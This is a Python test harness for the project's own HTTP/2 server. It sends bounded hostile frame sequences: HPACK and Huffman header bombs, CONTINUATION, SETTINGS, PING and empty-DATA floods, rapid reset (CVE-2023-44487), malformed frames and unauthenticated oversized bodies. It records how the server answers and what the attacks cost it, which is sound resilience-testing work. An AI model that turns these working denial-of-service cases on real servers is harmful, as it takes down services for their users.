#!/usr/bin/env python3
"""Hostile HTTP/2 clients, frame by frame, for crates/myriad/tests/h2_hostile.rs and
`myriad bench abuse --h2`.

Each case opens one TLS connection (ALPN h2), does what an attacker would, and reads
what the server answers until it closes, sends GOAWAY, or the case has its answer.
Frames are built with hyperframe and header blocks with hpack (the libraries the
Python `h2` package is made of); the honest handshake comes from h2 itself.

    h2_hostile.py --addr 127.0.0.1:8443 --ca ca.pem [--host localhost] CASE...

prints one JSON object per case: {"case", "goaway" (code or null), "rst" ({stream:
code}), "status" ({stream: :status}), "closed" (bool), "sent" (bytes), "seconds"},
and with --server-pid the server's CPU time over the case ("server_cpu_ms"):

    h2_hostile.py --addr A --ca CA --server-pid PID --frames 200 --repeat 5 \
        huffman_bomb plain_block      # what a 16 KB header block costs the server
Every loop is bounded in count and time.
"""

import argparse
import json
import os
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

READ_DEADLINE = 15.0


class Conn:
    def __init__(self, addr, ca, host):
        ctx = ssl.create_default_context(cafile=ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(addr, timeout=READ_DEADLINE)
        self.sock = ctx.wrap_socket(raw, server_hostname=host)
        assert self.sock.selected_alpn_protocol() == "h2", "server did not agree on h2"
        self.buf = b""
        self.sent = 0
        self.goaway = None
        self.rst = {}
        self.status = {}
        self.closed = False
        self.acked = False
        self.extra = {}
        self.decoder = hpack.Decoder()
        # The honest handshake: preface and SETTINGS from the h2 library.
        h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        h2c.initiate_connection()
        self.send(h2c.data_to_send())

    def send(self, data):
        try:
            self.sock.sendall(data)
            self.sent += len(data)
        except OSError:
            self.closed = True

    def send_frames(self, frames):
        self.send(b"".join(f.serialize() for f in frames))

    def read_frame(self, deadline):
        while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
            if self.closed or time.monotonic() > deadline:
                return None
            try:
                self.sock.settimeout(max(0.05, deadline - time.monotonic()))
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return None
            except (OSError, ssl.SSLError):
                self.closed = True
                return None
            if not chunk:
                self.closed = True
                return None
            self.buf += chunk
        frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
        frame.parse_body(memoryview(self.buf[9 : 9 + length]))
        self.buf = self.buf[9 + length :]
        self.note(frame)
        return frame

    def note(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            self.rst[frame.stream_id] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                if name in (b":status", ":status"):
                    self.status[frame.stream_id] = int(value)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send_frames([SettingsFrame(0, flags=["ACK"])])
            self.acked = True

    def read_until(self, done, seconds=READ_DEADLINE):
        """Reads frames until done(self) holds, GOAWAY, close, or `seconds`."""
        deadline = time.monotonic() + seconds
        while not done(self) and self.goaway is None and not self.closed:
            if self.read_frame(deadline) is None and time.monotonic() > deadline:
                break
        return self

    def handshake(self):
        """Reads the server's SETTINGS and acknowledges them."""
        return self.read_until(lambda c: c.acked, 5)

    def result(self, case, started):
        return {
            "case": case,
            "goaway": self.goaway,
            "rst": {str(k): v for k, v in self.rst.items()},
            "status": {str(k): v for k, v in self.status.items()},
            "closed": self.closed,
            "sent": self.sent,
            "seconds": round(time.monotonic() - started, 3),
            **self.extra,
        }


def request_block(method, path, extra=()):
    """A header block after our SETTINGS ACK: it opens with the table size update to
    0 that the server's SETTINGS_HEADER_TABLE_SIZE = 0 asks for."""
    enc = hpack.Encoder()
    enc.header_table_size = 0
    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
    return enc.encode(fields + list(extra))


def headers(stream, block, end_stream=True, end_headers=True):
    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
    return HeadersFrame(stream, data=block, flags=flags)


def gone(c):
    return c.goaway is not None or c.closed


# --- the cases ------------------------------------------------------------------
# Each returns the connection after its answer; `args` carries options (api key).


def truncated_size_update(c, args):
    # The 10-byte frame that aborted the server: HPACK 0x3F, a size update cut short.
    c.send_frames([headers(1, b"\x3f")])
    return c.read_until(gone)


def huffman_bomb(c, args):
    # 16 KB of empty Huffman-coded names and values (00 80 80), `--frames` times.
    block = b"\x20" + b"\x00\x80\x80" * 5460
    return blocks(c, block, args.frames)


def plain_block(c, args):
    # What huffman_bomb is measured against: a 16 KB block of the same size, one
    # plain (not Huffman-coded) header, `--frames` times.
    # GET / (static table) and one plain header: a request the server answers 431.
    value = b"p" * 16_356
    block = b"\x20\x82\x87\x84\x00\x07x-plain" + encode_int(len(value), 7, 0) + value
    return blocks(c, block, args.frames)


def blocks(c, block, n):
    for i in range(n):
        c.send_frames([headers(1 + 2 * i, block)])
        if c.closed:
            break
        if i % 50 == 49:
            c.read_until(lambda c: len(c.status) >= i - 50 or gone(c), 5)
    return c.read_until(lambda c: len(c.status) >= n or gone(c))


def hpack_bomb(c, args):
    # Before our SETTINGS (table size 0) applies: one 3,900-byte entry in the dynamic
    # table, then 4,000 one-byte references to it, 16 MB of headers from 8 KB.
    value = b"v" * 3900
    entry = b"\x40\x01x" + encode_int(len(value), 7, 0) + value
    c.send_frames([headers(1, entry + b"\xbe" * 4000)])
    return c.read_until(lambda c: 1 in c.status or gone(c))


def encode_int(value, prefix, first):
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value % 128) | 0x80)
        value //= 128
    out.append(value)
    return bytes(out)


def continuation_flood(c, args):
    # A header block that never ends: 1 KB CONTINUATION frames, up to 1,000 of them.
    c.send_frames([headers(1, request_block("GET", "/sse/1"), end_headers=False)])
    for _ in range(1000):
        c.send_frames([ContinuationFrame(1, data=b"\x40\x01a\x01b" * 200)])
        if c.closed:
            break
    return c.read_until(gone)


def empty_continuation_flood(c, args):
    c.send_frames([headers(1, request_block("GET", "/sse/1"), end_headers=False)])
    for _ in range(20):
        c.send_frames([ContinuationFrame(1, data=b"") for _ in range(500)])
        if c.closed:
            break
    return c.read_until(gone)


def rapid_reset(c, args):
    # Open a subscription and reset it at once, 5,000 times (CVE-2023-44487).
    for i in range(5000):
        stream = 1 + 2 * i
        c.send_frames([headers(stream, request_block("GET", f"/sse/{i}")), RstStreamFrame(stream, error_code=8)])
        if c.closed or c.goaway is not None:
            break
        if i % 200 == 0:
            c.read_until(lambda c: True, 0.01)
    return c.read_until(gone)


def settings_flood(c, args):
    for _ in range(20):
        c.send_frames([SettingsFrame(0) for _ in range(500)])
        if c.closed:
            break
    return c.read_until(gone)


def ping_flood(c, args):
    for _ in range(20):
        c.send_frames([PingFrame(0, opaque_data=b"12345678") for _ in range(500)])
        if c.closed:
            break
    return c.read_until(gone)


def empty_data_flood(c, args):
    extra = [("authorization", f"Bearer {args.api_key}")] if args.api_key else []
    c.send_frames([headers(1, request_block("POST", "/pub/1", extra), end_stream=False)])
    for _ in range(20):
        c.send_frames([DataFrame(1, data=b"") for _ in range(500)])
        if c.closed:
            break
    return c.read_until(gone)


def oversized_frame(c, args):
    # A DATA frame header saying 16,385 bytes (over SETTINGS_MAX_FRAME_SIZE).
    c.send(b"\x00\x40\x01\x00\x00\x00\x00\x00\x01")
    return c.read_until(gone)


def malformed_ping(c, args):
    # PING with 7 bytes of payload (must be 8).
    c.send(b"\x00\x00\x07\x06\x00\x00\x00\x00\x00" + b"1234567")
    return c.read_until(gone)


def unauthenticated_body(c, args):
    # A publish without the key that announces 1 MiB: refused before any DATA.
    block = request_block("POST", "/pub/1", [("content-length", str(1 << 20))])
    c.send_frames([headers(1, block, end_stream=False)])
    c.read_until(lambda c: 1 in c.status, 5)
    # What a client that ignores the answer sends next is dropped and reset.
    if 1 in c.status:
        c.send_frames([DataFrame(1, data=b"x" * 16384) for _ in range(3)])
        c.read_until(lambda c: 1 in c.rst, 2)
    return c


def many_unauthenticated_bodies(c, args):
    # 100 streams, each announcing 1 MiB and sending its first 48 KB without the key:
    # each is answered 401 at its head, and the third refusal ends the connection (as
    # on an HTTP/1.1 keep-alive connection: no trying credentials without limit).
    block = lambda: request_block("POST", "/pub/1", [("content-length", str(1 << 20))])
    for i in range(100):
        s = 1 + 2 * i
        c.send_frames([headers(s, block(), end_stream=False)] + [DataFrame(s, data=b"x" * 16000) for _ in range(3)])
        if c.closed or c.goaway is not None:
            break
    return c.read_until(lambda c: len(c.status) >= 100 or gone(c))


def fill_bodies(c, args):
    # The most request body one connection can make the server hold: 100 batch
    # publishes (`POST /pub`, up to --max-batch),
    # each announcing 1 MiB and sending all but its last byte, within the flow-control
    # windows the server grants (the h2 library keeps them). With --api-key the
    # requests carry the key (an authorized back-end); without, they do not.
    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    h2c.initiate_connection()
    h2c.data_to_send()  # the preface and SETTINGS already went (Conn)
    h2c.local_settings.acknowledge()
    # The server's SETTINGS (read and acknowledged by Conn) asked for no HPACK table.
    h2c.encoder.header_table_size = 0
    extra = [("authorization", f"Bearer {args.api_key}")] if args.api_key else []
    want = (1 << 20) - 1
    left = {}
    for i in range(100):
        s = 1 + 2 * i
        fields = [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
                  (":path", "/pub"), ("content-length", str(1 << 20))] + extra
        h2c.send_headers(s, fields)
        left[s] = want
    c.send(h2c.data_to_send())
    deadline = time.monotonic() + 30
    quiet_since = time.monotonic()
    body_sent = 0
    peak = 0
    while left and time.monotonic() < deadline and not gone(c):
        moved = False
        for s in list(left):
            try:
                room = min(h2c.local_flow_control_window(s), left[s], 16384)
            except h2.exceptions.StreamClosedError:
                left.pop(s)
                continue
            if room > 0:
                h2c.send_data(s, b"b" * room)
                body_sent += room
                left[s] -= room
                moved = True
                if left[s] == 0:
                    left.pop(s)
        c.send(h2c.data_to_send())
        if args.server_pid:
            peak = max(peak, rss_kb(args.server_pid))
        if moved:
            quiet_since = time.monotonic()
        elif time.monotonic() - quiet_since > 2:
            break
        # Take what the server said (windows, answers, resets) into the h2 state.
        c.sock.settimeout(0.05)
        try:
            data = c.sock.recv(65536)
        except (socket.timeout, ssl.SSLError, OSError):
            data = b""
        if data:
            c.buf += data
            while True:
                frame = c.read_frame(time.monotonic())
                if frame is None:
                    break
            try:
                for event in h2c.receive_data(data):
                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                        left.pop(event.stream_id, None)
            except h2.exceptions.ProtocolError:
                break
            c.send(h2c.data_to_send())
    if args.server_pid:
        # The server's memory at its highest while it held what this connection sent.
        c.extra["held_rss_kb"] = peak
    c.extra["body_bytes_sent"] = body_sent
    c.extra["streams_stalled"] = len(left)
    return c


def idle_after_a_stream(c, args):
    # One request answered, then nothing: the keep-alive timeout closes it too.
    c.send_frames([headers(1, request_block("GET", "/healthz"))])
    c.read_until(lambda c: 1 in c.status, 5)
    return c.read_until(gone, 20)


def idle_without_streams(c, args):
    # Nothing after the handshake: the keep-alive timeout closes it with GOAWAY.
    return c.read_until(gone, 20)


CASES = {f.__name__: f for f in [
    truncated_size_update, huffman_bomb, plain_block, hpack_bomb, continuation_flood,
    empty_continuation_flood, rapid_reset, settings_flood, ping_flood,
    empty_data_flood, oversized_frame, malformed_ping, unauthenticated_body,
    many_unauthenticated_bodies, fill_bodies, idle_after_a_stream, idle_without_streams,
]}


def cpu_ms(pid):
    """A process's user + system CPU time in ms (/proc/PID/stat), all its threads."""
    if not pid:
        return 0.0
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) * 1000.0 / os.sysconf("SC_CLK_TCK")


def rss_kb(pid):
    """A process's resident memory in KB (VmRSS), while the case's connection is open."""
    with open(f"/proc/{pid}/status") as f:
        return next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--addr", required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--host", default="localhost")
    p.add_argument("--api-key", default="")
    p.add_argument("--repeat", type=int, default=1, help="run each case this many times")
    p.add_argument("--server-pid", type=int, help="report this process's CPU time over each case (server_cpu_ms)")
    p.add_argument("--frames", type=int, default=5, help="header blocks per connection (huffman_bomb, plain_block)")
    p.add_argument("cases", nargs="+", help=" ".join(CASES))
    args = p.parse_args()
    host, port = args.addr.rsplit(":", 1)
    for name in args.cases:
        if name not in CASES:
            sys.exit(f"unknown case {name}; known: {' '.join(CASES)}")
        for _ in range(args.repeat):
            cpu0 = cpu_ms(args.server_pid)
            started = time.monotonic()
            c = Conn((host, int(port)), args.ca, args.host)
            # These two strike before reading anything, as an attacker would.
            if name not in ("truncated_size_update", "hpack_bomb"):
                c.handshake()
            CASES[name](c, args)
            result = c.result(name, started)
            if args.server_pid:
                result["server_cpu_ms"] = round(cpu_ms(args.server_pid) - cpu0, 1)
                result["server_rss_kb"] = rss_kb(args.server_pid)
            print(json.dumps(result), flush=True)
            try:
                c.sock.close()
            except OSError:
                pass


if __name__ == "__main__":
    main()
